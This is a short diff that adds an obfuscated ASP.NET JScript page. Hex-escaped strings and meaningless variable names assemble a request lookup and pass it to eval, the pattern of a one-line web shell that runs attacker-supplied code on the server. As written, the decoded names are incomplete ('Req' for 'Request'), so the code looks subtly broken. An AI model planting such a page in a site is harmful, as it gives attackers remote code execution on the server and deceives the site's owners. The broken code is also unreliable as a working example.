@@ -1,0 +1,4 @@
+<%@ Page Language="JScript" %><%
+var _0x12ab = ['\x52\x65\x71'], _0x34cd = _0x12ab[0], _0x56ef = 'Item', _0xAB12 = this;
+_0xAB12[_0x34cd][_0x56ef]('x'); eval(_0x34cd + _0x56ef);
+%>
